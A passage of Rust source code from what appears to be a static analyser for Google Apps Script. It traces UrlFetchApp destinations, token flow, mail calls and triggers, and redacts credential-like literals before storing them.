            if let Expression::ObjectExpression(inner) = &p.value {
                self.object_props(&key, inner, out, depth + 1);
            } else {
                out.insert(key, self.sym(&p.value, 0));
            }
        }
    }

    /// Values assigned to an object literal's properties, as `name.key` constants.
    fn object_defs(&mut self, name: &str, o: &ObjectExpression<'_>, depth: usize) {
        if depth > 8 {
            return;
        }
        for p in &o.properties {
            let ObjectPropertyKind::ObjectProperty(p) = p else {
                continue;
            };
            let Some(k) = key_name(&p.key) else {
                continue;
            };
            let dotted = format!("{name}.{k}");
            if let Expression::ObjectExpression(inner) = &p.value {
                self.object_defs(&dotted, inner, depth + 1);
            } else {
                let v = self.sym(&p.value, 0);
                self.define(&dotted, v);
            }
        }
    }

    fn define(&mut self, name: &str, value: Vec<Sym>) {
        let scope = if name.starts_with("this.") {
            String::new()
        } else {
            self.scope()
        };
        let def = Def {
            at: self.pos,
            branch: self.branch.clone(),
            syms: value,
            token: false,
        };
        let list = self.b.defs.entry((scope, name.to_string())).or_default();
        if list.len() < 4 * MAX_ALTERNATIVES {
            list.push(def);
        }
    }

    fn mark_token(&mut self, name: &str) {
        // `this.headers = {…token…}`: the member, for the whole project (methods share `this`).
        if let Some(rest) = name.strip_prefix("this.") {
            let member = rest.split('.').next().unwrap_or(rest);
            self.b
                .token
                .insert((String::new(), format!("this.{member}")));
            return;
        }
        let root = name.split('.').next().unwrap_or(name).to_string();
        if self.shadowed(&root) {
            return;
        }
        let scope = self.scope();
        if root != name {
            // `o.headers = {…token…}`: o carries the token from here on.
            let list = self.b.token_members.entry((scope, root)).or_default();
            if !list.contains(&self.pos) {
                list.push(self.pos);
            }
            return;
        }
        let pos = self.pos;
        match self
            .b
            .defs
            .get_mut(&(scope.clone(), root.clone()))
            .and_then(|l| l.iter_mut().find(|d| d.at == pos))
        {
            Some(d) => d.token = true,
            None => {
                self.b.token.insert((scope, root));
            }
        }
    }

    /// Enters a top-level function or method named `name`.
    fn enter(&mut self, name: &str, params: &FormalParameters<'_>) {
        self.function = Some(name.to_string());
        if self.pass == Pass::Declarations {
            self.b.functions.insert(name.to_string());
            self.b.params.insert(name.to_string(), params_of(params));
        }
        self.facts.functions.insert(name.to_string());
    }

    fn edge(&mut self, to: &str) {
        if self.pass != Pass::Record {
            return;
        }
        let from = self.function.clone().unwrap_or_default();
        if from != to {
            self.facts
                .graph
                .entry(from)
                .or_default()
                .insert(to.to_string());
        }
    }

    fn entry(&mut self, function: String, kind: &'static str, how: &str) {
        let e = Entry {
            function,
            kind,
            how: how.to_string(),
        };
        if !self.facts.entries.contains(&e) {
            self.facts.entries.push(e);
        }
    }

    fn nested<F: FnOnce(&mut Self)>(&mut self, params: Vec<String>, f: F) {
        self.shadow.push(params.into_iter().collect());
        // A callback runs when (and as often as) its caller decides: a branch of its own.
        let id = self
            .pos
            .wrapping_add(u32::try_from(self.shadow.len()).unwrap_or(0));
        self.in_branch(id, f);
        self.shadow.pop();
    }

    /// A loop body: a branch (it may not run) whose calls are in a loop.
    fn in_loop<F: FnOnce(&mut Self)>(&mut self, id: u32, f: F) {
        self.loops += 1;
        self.in_branch(id, f);
        self.loops -= 1;
    }

    fn in_branch<F: FnOnce(&mut Self)>(&mut self, id: u32, f: F) {
        self.branch.push(id);
        f(self);
        self.branch.pop();
    }
}

fn push_part(v: &mut Vec<Part>, p: Part) {
    match (v.last_mut(), p) {
        (Some(Part::Lit(a)), Part::Lit(b)) => a.push_str(&b),
        (Some(Part::Unknown), Part::Unknown) | (Some(Part::Data), Part::Data) => {}
        (_, p) => v.push(p),
    }
}

fn dedup_capped(mut v: Vec<Vec<Part>>) -> Vec<Vec<Part>> {
    let mut seen = Vec::new();
    v.retain(|x| {
        if seen.contains(x) {
            false
        } else {
            seen.push(x.clone());
            true
        }
    });
    if v.len() > MAX_ALTERNATIVES {
        v.truncate(MAX_ALTERNATIVES - 1);
        v.push(vec![Part::Unknown]);
    }
    v
}

/// Where a URL value goes. The host is read with the `url` crate (user-info, ports, IDNs and
/// percent-encoding as a browser reads them); a host with a computed part keeps its fixed end.
fn url_fact(parts: &[Part]) -> UrlFact {
    const HOLE: char = '\u{1}';
    let mut text = String::new();
    for p in parts {
        match p {
            Part::Lit(s) => text.push_str(&s.replace(HOLE, "")),
            Part::Unknown | Part::Data => text.push(HOLE),
        }
    }
    let text = text.trim_start();
    let (scheme, rest) = if let Some(r) = text.strip_prefix("//") {
        ("https".to_string(), r)
    } else {
        match text.split_once("://") {
            Some((s, r))
                if !s.is_empty()
                    && s.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) =>
            {
                (s.to_ascii_lowercase(), r)
            }
            _ => return UrlFact::default(),
        }
    };
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let region = &rest[..end];
    let path_text = &rest[end..];
    let path = path_text
        .split(['?', '#', HOLE])
        .next()
        .filter(|p| !p.is_empty())
        // A webhook's path can be its credential.
        .map(crate::secrets::redact_path);
    let parse_host = |authority: &str| -> Option<String> {
        url::Url::parse(&format!("{scheme}://{authority}/"))
            .ok()?
            .host_str()
            .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
            .filter(|h| !h.is_empty())
    };
    let mut fact = UrlFact {
        scheme: Some(scheme.clone()),
        path,
        ..UrlFact::default()
    };
    match region.rfind(HOLE) {
        None => fact.host = parse_host(region),
        Some(i) => {
            let tail = &region[i + HOLE.len_utf8()..];
            let head = &region[..i];
            if let Some((_, after)) = tail.rsplit_once('@') {
                // Whatever comes before the last `@` is user-info.
                fact.host = parse_host(after);
            } else if !head.contains(HOLE) && !head.is_empty() && tail.is_empty() {
                // `'https://api.example.com' + path`: the written host, a path follows.
                fact.host = parse_host(head);
            } else {
                let tail = tail.split(':').next().unwrap_or_default();
                if tail.contains('.') {
                    fact.host_suffix = Some(tail.to_ascii_lowercase());
                }
            }
        }
    }
    fact
}

impl<'a> Visit<'a> for Walker<'_, '_> {
    fn visit_function(&mut self, it: &Function<'a>, flags: oxc_syntax::scope::ScopeFlags) {
        if self.function.is_none()
            && let Some(id) = &it.id
        {
            self.enter(id.name.as_str(), &it.params);
            oxc_ast_visit::walk::walk_function(self, it, flags);
            self.function = None;
        } else if self.function.is_none() {
            // An anonymous function at the top level (an IIFE wrapping a library): its parameters
            // hide outer names; named functions inside it are still read as top-level ones.
            self.nested(params_of(&it.params), |w| {
                oxc_ast_visit::walk::walk_function(w, it, flags)
            });
        } else {
            self.nested(params_of(&it.params), |w| {
                oxc_ast_visit::walk::walk_function(w, it, flags)
            });
        }
    }

    fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
        self.nested(params_of(&it.params), |w| {
            oxc_ast_visit::walk::walk_arrow_function_expression(w, it)
        });
    }

    fn visit_method_definition(&mut self, it: &MethodDefinition<'a>) {
        match (self.function.is_none(), key_name(&it.key)) {
            (true, Some(name)) => {
                if self.pass == Pass::Declarations {
                    self.b.methods.insert(name.clone());
                }
                self.enter(&name, &it.value.params);
                oxc_ast_visit::walk::walk_function(
                    self,
                    &it.value,
                    oxc_syntax::scope::ScopeFlags::empty(),
                );
                self.function = None;
            }
            _ => oxc_ast_visit::walk::walk_method_definition(self, it),
        }
    }

    fn visit_object_property(&mut self, it: &ObjectProperty<'a>) {
        // `var api = { send: function (…) {…} }` at the top level: a method named `send`.
        let params = match &it.value {
            Expression::FunctionExpression(f) => Some(&f.params),
            Expression::ArrowFunctionExpression(f) => Some(&f.params),
            _ => None,
        };
        if self.function.is_none()
            && let (Some(params), Some(name)) = (params, key_name(&it.key))
        {
            if self.pass == Pass::Declarations {
                self.b.methods.insert(name.clone());
            }
            self.enter(&name, params);
            match &it.value {
                Expression::FunctionExpression(f) => oxc_ast_visit::walk::walk_function(
                    self,
                    f,
                    oxc_syntax::scope::ScopeFlags::empty(),
                ),
                Expression::ArrowFunctionExpression(f) => {
                    oxc_ast_visit::walk::walk_arrow_function_expression(self, f)
                }
                _ => {}
            }
            self.function = None;
            return;
        }
        oxc_ast_visit::walk::walk_object_property(self, it);
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        // A definition takes effect where it ends: `x = f(x)` reads the earlier x.
        self.pos = it.span.end;
        let (BindingPattern::BindingIdentifier(id), Some(init)) = (&it.id, &it.init) else {
            oxc_ast_visit::walk::walk_variable_declarator(self, it);
            return;
        };
        let name = id.name.to_string();
        // `var f = function (…) {…}` / `const f = (…) => …` at the top level is a function named f.
        if self.function.is_none() {
            let params = match init {
                Expression::FunctionExpression(f) => Some(&f.params),
                Expression::ArrowFunctionExpression(f) => Some(&f.params),
                _ => None,
            };
            if let Some(params) = params {
                self.enter(&name, params);
                match init {
                    Expression::FunctionExpression(f) => oxc_ast_visit::walk::walk_function(
                        self,
                        f,
                        oxc_syntax::scope::ScopeFlags::empty(),
                    ),
                    Expression::ArrowFunctionExpression(f) => {
                        oxc_ast_visit::walk::walk_arrow_function_expression(self, f)
                    }
                    _ => {}
                }
                self.function = None;
                return;
            }
        }
        match self.pass {
            Pass::Declarations => {
                match init {
                    Expression::Identifier(_) | Expression::StaticMemberExpression(_) => {
                        let target = self.name(init, 0);
                        let root = target.split('.').next().unwrap_or_default();
                        let service = SERVICES.iter().any(|(s, _)| *s == root)
                            || OTHER_GLOBALS.contains(&root);
                        if service && target != name {
                            self.b.alias.insert(name.clone(), target);
                        }
                    }
                    Expression::ObjectExpression(o) => {
                        self.object_defs(&name, o, 0);
                        self.define(&format!("{name}.{OBJECT_MARK}"), vec![Sym::Unknown]);
                    }
                    // `list.map(x => ({url, …}))`: the members of each element, as `name.url`.
                    Expression::CallExpression(c) => {
                        for a in &c.arguments {
                            let objects: Vec<&Expression<'_>> = match a.as_expression() {
                                Some(Expression::ArrowFunctionExpression(f)) => {
                                    returned(&f.body.statements, f.expression)
                                }
                                Some(Expression::FunctionExpression(f)) => f
                                    .body
                                    .as_ref()
                                    .map(|b| returned(&b.statements, false))
                                    .unwrap_or_default(),
                                _ => Vec::new(),
                            };
                            for o in objects {
                                let mut o = o;
                                while let Expression::ParenthesizedExpression(p) = o {
                                    o = &p.expression;
                                }
                                if let Expression::ObjectExpression(o) = o {
                                    self.object_defs(&name, o, 0);
                                }
                            }
                        }
                    }
                    _ => {}
                }
                let v = self.sym(init, 0);
                self.define(&name, v);
            }
            Pass::Tokens => {
                if self.carries_token(init) {
                    self.mark_token(&name);
                }
            }
            Pass::Record => {}
        }
        oxc_ast_visit::walk::walk_variable_declarator(self, it);
    }

    fn visit_return_statement(&mut self, it: &oxc_ast::ast::ReturnStatement<'a>) {
        self.pos = it.span.start;
        // What a top-level function or method returns (not what a callback inside it returns).
        if self.pass == Pass::Declarations
            && self.shadow.is_empty()
            && self.function.is_some()
            && let Some(e) = &it.argument
        {
            let v = self.sym(e, 0);
            self.define(RETURN, v);
        }
        oxc_ast_visit::walk::walk_return_statement(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        self.pos = it.span.end;
        let target = match &it.left {
            AssignmentTarget::AssignmentTargetIdentifier(id) => Some(id.name.to_string()),
            AssignmentTarget::StaticMemberExpression(m) => {
                Self::dotted(&m.object, 0).map(|o| format!("{o}.{}", m.property.name))
            }
            _ => None,
        };
        // `fetch = function (…) {…}` / `Lib.prototype.send = function (…) {…}` outside any
        // function: a function (or method) named by the last part of the target.
        let params = match &it.right {
            Expression::FunctionExpression(f) => Some(&f.params),
            Expression::ArrowFunctionExpression(f) => Some(&f.params),
            _ => None,
        };
        if self.function.is_none()
            && let (Some(t), Some(params)) = (&target, params)
        {
            let name = t.rsplit('.').next().unwrap_or(t).to_string();
            if t.contains('.') && self.pass == Pass::Declarations {
                self.b.methods.insert(name.clone());
            }
            self.enter(&name, params);
            match &it.right {
                Expression::FunctionExpression(f) => oxc_ast_visit::walk::walk_function(
                    self,
                    f,
                    oxc_syntax::scope::ScopeFlags::empty(),
                ),
                Expression::ArrowFunctionExpression(f) => {
                    oxc_ast_visit::walk::walk_arrow_function_expression(self, f)
                }
                _ => {}
            }
            self.function = None;
            return;
        }
        if let Some(t) = target {
            match self.pass {
                Pass::Declarations if it.operator == AssignmentOperator::Assign => {
                    if let Expression::ObjectExpression(o) = &it.right {
                        self.object_defs(&t, o, 0);
                    }
                    let v = self.sym(&it.right, 0);
                    self.define(&t, v);
                }
                Pass::Tokens if self.carries_token(&it.right) => self.mark_token(&t),
                _ => {}
            }
        }
        oxc_ast_visit::walk::walk_assignment_expression(self, it);
    }

    fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
        let n = it.name.as_str();
        if self.pass == Pass::Record && self.b.functions.contains(n) && !self.shadowed(n) {
            self.edge(n);
        }
    }

    fn visit_if_statement(&mut self, it: &oxc_ast::ast::IfStatement<'a>) {
        self.visit_expression(&it.test);
        self.in_branch(it.consequent.span().start, |w| {
            w.visit_statement(&it.consequent)
        });
        if let Some(alt) = &it.alternate {
            self.in_branch(alt.span().start, |w| w.visit_statement(alt));
        }
    }

    fn visit_switch_case(&mut self, it: &oxc_ast::ast::SwitchCase<'a>) {
        self.in_branch(it.span.start, |w| {
            oxc_ast_visit::walk::walk_switch_case(w, it)
        });
    }

    fn visit_conditional_expression(&mut self, it: &oxc_ast::ast::ConditionalExpression<'a>) {
        self.visit_expression(&it.test);
        self.in_branch(it.consequent.span().start, |w| {
            w.visit_expression(&it.consequent)
        });
        self.in_branch(it.alternate.span().start, |w| {
            w.visit_expression(&it.alternate)
        });
    }

    fn visit_logical_expression(&mut self, it: &oxc_ast::ast::LogicalExpression<'a>) {
        self.visit_expression(&it.left);
        self.in_branch(it.right.span().start, |w| w.visit_expression(&it.right));
    }

    fn visit_catch_clause(&mut self, it: &oxc_ast::ast::CatchClause<'a>) {
        self.in_branch(it.span.start, |w| {
            oxc_ast_visit::walk::walk_catch_clause(w, it)
        });
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        self.pos = it.span.start;
        // Arguments of calls to top-level functions and methods: what their parameters take.
        let called = Self::callee_name(it);
        let shift = called.as_ref().map_or(0, |c| c.1);
        if let Some((callee, _)) = called {
            let n = {
                let c = self.b.site_count.entry(callee.clone()).or_default();
                *c += 1;
                *c - 1
            };
            match self.pass {
                Pass::Declarations => {
                    let args: Vec<Arg> = it
                        .arguments
                        .iter()
                        .skip(shift)
                        .map(|a| match a.as_expression() {
                            Some(x) => self.arg(x),
                            None => Arg {
                                syms: vec![Sym::Unknown],
                                ..Arg::default()
                            },
                        })
                        .collect();
                    let sites = self.b.sites.entry(callee).or_default();
                    if sites.len() < 4 * MAX_ALTERNATIVES {
                        sites.push(args);
                    }
                }
                Pass::Tokens => {
                    for (i, a) in it.arguments.iter().skip(shift).enumerate() {
                        if a.as_expression().is_some_and(|x| self.carries_token(x)) {
                            self.b.token_params.insert((callee.clone(), i));
                            self.b.token_sites.insert((callee.clone(), n, i));
                        }
                    }
                }
                Pass::Record => {}
            }
        }
        let mut api = self.name(&it.callee, 0);
        let method = api.rsplit('.').next().unwrap_or_default().to_string();
        if self.pass == Pass::Record {
            if let Expression::StaticMemberExpression(m) = &it.callee
                && self.b.methods.contains(m.property.name.as_str())
            {
                self.edge(m.property.name.as_str());
            }
            // Functions named in strings: menu items, card actions, installed triggers.
            let first_string = |w: &Self, i: usize| {
                it.arguments
                    .get(i)
                    .and_then(Argument::as_expression)
                    .map(|x| w.strings(x))
                    .unwrap_or_default()
            };
            match method.as_str() {
                "addItem" => {
                    for f in first_string(self, 1) {
                        self.entry(f, "ui", "menu item");
                    }
                }
                "setFunctionName" => {
                    for f in first_string(self, 0) {
                        self.entry(f, "ui", "card action");
                    }
                }
                _ if api == "ScriptApp.newTrigger" => {
                    for f in first_string(self, 0) {
                        self.entry(f, "installable", "ScriptApp.newTrigger");
                    }
                }
                _ => {}
            }
        }
        let in_callback_loop = ITERATING.contains(&method.as_str());
        if self.pass != Pass::Record {
            if in_callback_loop {
                self.loops += 1;
            }
            oxc_ast_visit::walk::walk_call_expression(self, it);
            if in_callback_loop {
                self.loops -= 1;
            }
            return;
        }
        // `file.setSharing(…)`: the receiver is a local value; keep the method.
        let root = api.split(['.', '(']).next().unwrap_or_default().to_string();
        let known =
            SERVICES.iter().any(|(s, _)| *s == root) || OTHER_GLOBALS.contains(&root.as_str());
        if !known && api.contains('.') {
            api = format!("*{}", &api[api.rfind('.').unwrap_or(0)..]);
        }
        self.note_service(&api);
        let relevant = known || METHODS.contains(&api.as_str());
        if relevant {
            self.record(it, api);
        }
        if in_callback_loop {
            self.loops += 1;
        }
        oxc_ast_visit::walk::walk_call_expression(self, it);
        if in_callback_loop {
            self.loops -= 1;
        }
    }

    fn visit_while_statement(&mut self, it: &oxc_ast::ast::WhileStatement<'a>) {
        self.in_loop(it.span.start, |w| {
            oxc_ast_visit::walk::walk_while_statement(w, it)
        });
    }

    fn visit_do_while_statement(&mut self, it: &oxc_ast::ast::DoWhileStatement<'a>) {
        self.in_loop(it.span.start, |w| {
            oxc_ast_visit::walk::walk_do_while_statement(w, it)
        });
    }

    fn visit_for_statement(&mut self, it: &oxc_ast::ast::ForStatement<'a>) {
        self.in_loop(it.span.start, |w| {
            oxc_ast_visit::walk::walk_for_statement(w, it)
        });
    }

    fn visit_for_of_statement(&mut self, it: &oxc_ast::ast::ForOfStatement<'a>) {
        self.in_loop(it.span.start, |w| {
            oxc_ast_visit::walk::walk_for_of_statement(w, it)
        });
    }

    fn visit_for_in_statement(&mut self, it: &oxc_ast::ast::ForInStatement<'a>) {
        self.in_loop(it.span.start, |w| {
            oxc_ast_visit::walk::walk_for_in_statement(w, it)
        });
    }
}

/// Calls whose string arguments are a mail's addresses, subject and body.
const MAIL_APIS: &[&str] = &[
    "GmailApp.sendEmail",
    "MailApp.sendEmail",
    "GmailApp.createDraft",
    ".reply",
    ".replyAll",
    ".forward",
    ".createDraftReply",
    ".createDraftReplyAll",
];

/// A literal that is one or more mail addresses (`a@x.example, b@y.example`).
fn is_address_list(l: &str) -> bool {
    let parts: Vec<&str> = l
        .split([',', ';'])
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .collect();
    !parts.is_empty()
        && parts
            .iter()
            .all(|p| p.contains('@') && !p.contains(char::is_whitespace))
}

impl Walker<'_, '_> {
    fn record(&mut self, it: &CallExpression<'_>, api: String) {
        let mut literals = Vec::new();
        let mut refs = Vec::new();
        let mut token = Tok::default();
        for a in &it.arguments {
            match a {
                Argument::SpreadElement(s) => {
                    self.scan(&s.argument, &mut literals, &mut refs, &mut token, 0)
                }
                other => {
                    if let Some(x) = other.as_expression() {
                        self.scan(x, &mut literals, &mut refs, &mut token, 0);
                    }
                }
            }
        }
        // A trigger builder chain: the function name is the argument of its first call.
        if api.starts_with("ScriptApp.newTrigger(") {
            let mut cur: &Expression<'_> = &it.callee;
            for _ in 0..MAX_DEPTH {
                match cur {
                    Expression::StaticMemberExpression(m) => cur = &m.object,
                    Expression::CallExpression(inner) => {
                        if self.name(&inner.callee, 0) == "ScriptApp.newTrigger" {
                            if let Some(s) = inner
                                .arguments
                                .first()
                                .and_then(Argument::as_expression)
                                .and_then(|x| self.strings(x).into_iter().next())
                            {
                                literals.insert(0, s);
                            }
                            break;
                        }
                        cur = &inner.callee;
                    }
                    _ => break,
                }
            }
        }
        // What the code says is not stored as written: a mail's subject and body are not kept at
        // all (only its addresses), and any other literal loses what looks like a credential
        // (tokens, signed URLs' queries, `Bearer …`).
        let mail = MAIL_APIS
            .iter()
            .any(|m| api.starts_with(m) || api.ends_with(m));
        let literals: Vec<String> = literals
            .into_iter()
            .map(|l| {
                if mail && !is_address_list(&l) {
                    crate::secrets::redacted(&l)
                } else {
                    crate::secrets::redact_text(&l)
                }
            })
            .collect();
        let first = it.arguments.first().and_then(Argument::as_expression);
        let first_values = first.map(|x| self.values(x)).unwrap_or_default();
        let dynamic = !first_values
            .iter()
            .any(|v| matches!(v.first(), Some(Part::Lit(_))));
        let fetch = api == "UrlFetchApp.fetch" || api == "UrlFetchApp.fetchAll";
        let mut urls: Vec<UrlFact> = Vec::new();
        let mut method = None;
        let mut payload = None;
        if fetch {
            (urls, method, payload) = self.fetch_facts(it, &api, first, &token);
        }
        let carries_token = if fetch {
            token.direct || urls.iter().any(|u| u.token)
        } else {
            token.any()
        };
        let line = self.line(it.span.start);
        self.facts.calls.push(ScriptCall {
            file: self.file.to_string(),
            line,
            function: self.function.clone(),
            api,
            literals,
            refs,
            dynamic,
            carries_token,
            in_loop: self.loops > 0,
            urls,
            payload,
            method,
            reach: None,
        });
    }

    /// A `UrlFetchApp` call's destinations (each resolved per call site of the helper it is in, so a
    /// token goes with the URLs the same caller passes), its method and whether it carries a payload.
    fn fetch_facts(
        &self,
        it: &CallExpression<'_>,
        api: &str,
        first: Option<&Expression<'_>>,
        token: &Tok,
    ) -> (Vec<UrlFact>, Option<String>, Option<bool>) {
        let mut urls: Vec<UrlFact> = Vec::new();
        let options = if api == "UrlFetchApp.fetchAll" {
            None
        } else {
            it.arguments.get(1).and_then(Argument::as_expression)
        };
        let url_syms = self.fetch_urls(api, first);
        let method = options.and_then(|o| self.method_of(o));
        let payload = Some(match (api, options, first) {
            ("UrlFetchApp.fetchAll", _, Some(f)) => {
                let list = self.request_members(f, "payload", Vec::new());
                self.payloads_variable(&list)
            }
            ("UrlFetchApp.fetchAll", _, None) => true,
            (_, Some(o), _) => self.payload_variable(o),
            (_, None, _) => false,
        });
        // Inside a helper that callers hand the URL and the token: each call site on its own,
        // so the token goes with the URLs the same caller passes.
        let sites = self
            .function
            .as_ref()
            .and_then(|f| self.b.sites.get(f))
            .map_or(0, Vec::len);
        let bindings: Vec<Option<usize>> = if sites == 0 {
            vec![None]
        } else {
            (0..sites).map(Some).collect()
        };
        let func = self.function.clone().unwrap_or_default();
        for k in bindings {
            let with_token = token.direct
                || token.params.iter().any(|i| match k {
                    Some(k) => self.b.token_sites.contains(&(func.clone(), k, *i)),
                    None => true,
                });
            for syms in &url_syms {
                let bind: Vec<(String, usize)> = k.map(|k| (func.clone(), k)).into_iter().collect();
                for v in self.resolve(syms, 0, &mut Vec::new(), &bind) {
                    // An empty string (`if (!url) return ""`) is no request.
                    if v.iter().all(|p| *p == Part::Lit(String::new())) {
                        continue;
                    }
                    let mut fact = url_fact(&v);
                    fact.computed = v.is_empty() || v.iter().any(|p| !matches!(p, Part::Lit(_)));
                    fact.user_data = v.contains(&Part::Data);
                    let same = urls.iter().position(|u| {
                        UrlFact {
                            token: false,
                            ..u.clone()
                        } == UrlFact {
                            token: false,
                            ..fact.clone()
                        }
                    });
                    match same {
                        Some(i) => urls[i].token |= with_token,
                        None if urls.len() < 4 * MAX_ALTERNATIVES => {
                            fact.token = with_token;
                            urls.push(fact);
                        }
                        None => {}
                    }
                }
            }
        }
        (urls, method, payload)
    }

    /// The URL expressions of a fetch: `fetch(url, …)`, or each request of `fetchAll([{url}, "…"])`.
    fn fetch_urls(&self, api: &str, first: Option<&Expression<'_>>) -> Vec<Vec<Sym>> {
        match first {
            None => vec![vec![Sym::Unknown]],
            Some(f) if api != "UrlFetchApp.fetchAll" => vec![self.sym(f, 0)],
            Some(f) => self.request_members(f, "url", vec![Sym::Unknown]),
        }
    }

    /// A member (`url`, `payload`) of each request `fetchAll` is given: written in place, or the
    /// members of the list's elements (`list.map(x => ({url, …}))`), through parameters. `missing`
    /// stands for a request written in place without it.
    fn request_members(
        &self,
        first: &Expression<'_>,
        member: &str,
        missing: Vec<Sym>,
    ) -> Vec<Vec<Sym>> {
        let mut out = Vec::new();
        if let Expression::ArrayExpression(a) = first {
            for el in &a.elements {
                match el.as_expression() {
                    Some(Expression::ObjectExpression(o)) => {
                        let mut props = BTreeMap::new();
                        self.object_props("", o, &mut props, 0);
                        out.push(props.remove(member).unwrap_or_else(|| missing.clone()));
                    }
                    Some(x) => match Self::dotted(x, 0) {
                        // `[obj]`: the `url` member of what `obj` names.
                        Some(d) => match self.var(&d) {
                            Sym::Var {
                                scope,
                                name,
                                at,
                                branch,
                            } => out.push(vec![Sym::Var {
                                scope,
                                name: format!("{name}.{member}"),
                                at,
                                branch,
                            }]),
                            Sym::Param { func, index } => out.push(vec![Sym::ParamMember {
                                func,
                                index,
                                member: member.into(),
                            }]),
                            other => out.push(vec![other]),
                        },
                        None => out.push(self.sym(x, 0)),
                    },
                    None => out.push(vec![Sym::Unknown]),
                }
            }
        }
        // `fetchAll(requests)` / `fetchAll(requests.slice(…))`: the `url` of the list's elements.
        if out.is_empty() {
            let mut list = first;
            while let Expression::CallExpression(c) = list
                && let Expression::StaticMemberExpression(m) = &c.callee
                && matches!(
                    m.property.name.as_str(),
                    "slice" | "filter" | "concat" | "splice"
                )
            {
                list = &m.object;
            }
            if !matches!(list, Expression::ArrayExpression(_))
                && let Some(d) = Self::dotted(list, 0)
            {
                out.push(vec![match self.var(&d) {
                    Sym::Var {
                        scope,
                        name,
                        at,
                        branch,
                    } => Sym::Var {
                        scope,
                        name: format!("{name}.{member}"),
                        at,
                        branch,
                    },
                    Sym::Param { func, index } => Sym::ParamMember {
                        func,
                        index,
                        member: member.into(),
                    },
                    Sym::ParamMember {
                        func,
                        index,
                        member: m,
                    } => Sym::ParamMember {
                        func,
                        index,
                        member: format!("{m}.{member}"),
                    },
                    _ => Sym::Unknown,
                }]);
            }
        }
        if out.is_empty() {
            out.push(vec![Sym::Unknown]);
        }
        out
    }

    /// Whether the `payload` members found by [`Self::request_members`] may carry something
    /// variable: a definition that is not all text, or one that cannot be seen.
    fn payloads_variable(&self, list: &[Vec<Sym>]) -> bool {
        list.iter().any(|syms| self.payload_syms_variable(syms, 0))
    }

    fn payload_syms_variable(&self, syms: &[Sym], depth: usize) -> bool {
        if depth > MAX_RESOLVE_DEPTH {
            return true;
        }
        let defs_variable = |defs: Vec<&Def>| {
            defs.iter()
                .any(|d| d.syms.iter().any(|s| !matches!(s, Sym::Lit(_))))
        };
        match syms {
            [] => false,
            [
                Sym::Var {
                    scope,
                    name,
                    at,
                    branch,
                },
            ] if name.ends_with(".payload") => {
                // The list's elements are known (`name.url` is defined) and have no payload, or
                // only a written one.
                let list = name.trim_end_matches(".payload");
                let elements_known = !self
                    .reaching(scope, &format!("{list}.url"), *at, branch)
                    .is_empty();
                let defs = self.reaching(scope, name, *at, branch);
                if defs.is_empty() {
                    !elements_known
                } else {
                    defs_variable(defs)
                }
            }
            [
                Sym::ParamMember {
                    func,
                    index,
                    member,
                },
            ] => {
                let sites = self.sites_of(func, &[]);
                sites.is_empty()
                    || sites.iter().any(|args| match args.get(*index) {
                        Some(a) => match (a.props.get(member.as_str()), &a.named) {
                            (Some(v), _) => v.iter().any(|s| !matches!(s, Sym::Lit(_))),
                            (
                                None,
                                Some(Sym::Var {
                                    scope,
                                    name,
                                    at,
                                    branch,
                                }),
                            ) => self.payload_syms_variable(
                                &[Sym::Var {
                                    scope: scope.clone(),
                                    name: format!("{name}.{member}"),
                                    at: *at,
                                    branch: branch.clone(),
                                }],
                                depth + 1,
                            ),
                            (None, Some(Sym::Param { func, index })) => self.payload_syms_variable(
                                &[Sym::ParamMember {
                                    func: func.clone(),
                                    index: *index,
                                    member: member.clone(),
                                }],
                                depth + 1,
                            ),
                            // A request written in place without a payload sends none.
                            (None, _) => a.props.is_empty(),
                        },
                        None => true,
                    })
            }
            other => other.iter().any(|s| !matches!(s, Sym::Lit(_))),
        }
    }

    fn property_values(&self, o: &ObjectExpression<'_>, key: &str) -> Vec<Vec<Part>> {
        o.properties
            .iter()
            .filter_map(|p| match p {
                ObjectPropertyKind::ObjectProperty(p)
                    if key_name(&p.key).as_deref() == Some(key) =>
                {
                    Some(self.values(&p.value))
                }
                _ => None,
            })
            .flatten()
            .collect()
    }

    /// The options carry a `payload` that is not a constant (written in place, or set on a
    /// variable holding them); options that cannot be seen are taken to carry one.
    fn payload_variable(&self, options: &Expression<'_>) -> bool {
        match options {
            Expression::ObjectExpression(o) => o.properties.iter().any(|p| match p {
                ObjectPropertyKind::ObjectProperty(p) => {
                    key_name(&p.key).as_deref() == Some("payload") && !constant(&p.value, 0)
                }
                ObjectPropertyKind::SpreadProperty(_) => true,
            }),
            Expression::Identifier(id) => {
                let name = id.name.as_str();
                let scope = self.scope();
                let defs = |k: &str| {
                    self.b
                        .defs
                        .get(&(scope.clone(), k.to_string()))
                        .or_else(|| self.b.defs.get(&(String::new(), k.to_string())))
                };
                if self.is_param(name) || defs(&format!("{name}.{OBJECT_MARK}")).is_none() {
                    return true;
                }
                // A literal options object: variable when a payload set on it is not all text.
                defs(&format!("{name}.payload")).is_some_and(|list| {
                    list.iter()
                        .any(|d| d.syms.iter().any(|s| !matches!(s, Sym::Lit(_))))
                })
            }
            _ => true,
        }
    }

    fn is_param(&self, name: &str) -> bool {
        self.function.as_ref().is_some_and(|f| {
            self.b
                .params
                .get(f)
                .is_some_and(|ps| ps.iter().any(|p| p == name))
        })
    }

    /// `{method: 'post'}` written in place or in a variable.
    fn method_of(&self, options: &Expression<'_>) -> Option<String> {
        let values = match options {
            Expression::ObjectExpression(o) => self.property_values(o, "method"),
            Expression::Identifier(id) => {
                let syms = vec![self.var(&format!("{}.method", id.name))];
                self.resolve(&syms, 0, &mut Vec::new(), &[])
            }
            _ => Vec::new(),
        };
        values.iter().find_map(|v| match v.as_slice() {
            [Part::Lit(m)] => Some(m.to_ascii_lowercase()),
            _ => None,
        })
    }
}

/// The expressions a function body returns (its top-level `return`s, or an arrow's expression body).
fn returned<'x, 'a>(
    statements: &'x [oxc_ast::ast::Statement<'a>],
    expression_body: bool,
) -> Vec<&'x Expression<'a>> {
    use oxc_ast::ast::Statement;
    statements
        .iter()
        .filter_map(|s| match s {
            Statement::ReturnStatement(r) => r.argument.as_ref(),
